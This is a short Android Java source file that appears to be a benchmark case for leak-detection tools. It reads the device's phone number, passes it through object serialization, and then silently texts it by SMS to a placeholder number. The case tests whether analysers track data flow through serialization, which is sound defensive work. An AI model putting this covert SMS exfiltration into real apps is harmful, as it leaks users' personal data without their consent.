// about       An object is written to bytes and read again; the field with the value comes along.
// leak        PHONE_NUMBER sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.Serializable;

public class MainActivity extends Activity {
  static class Card implements Serializable {
    String name = "me";
    // Is written.
    String number;
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Card card = new Card();
    card.number = phone.getLine1Number();
    try {
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      ObjectOutputStream out = new ObjectOutputStream(bytes);
      out.writeObject(card);
      out.close();
      byte[] image = bytes.toByteArray();
      ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(image));
      Card read = (Card) in.readObject();
      String text = read.name + ":" + read.number;
      SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
    } catch (Exception e) {
      Log.w("Cards", "not copied");
    }
  }
}
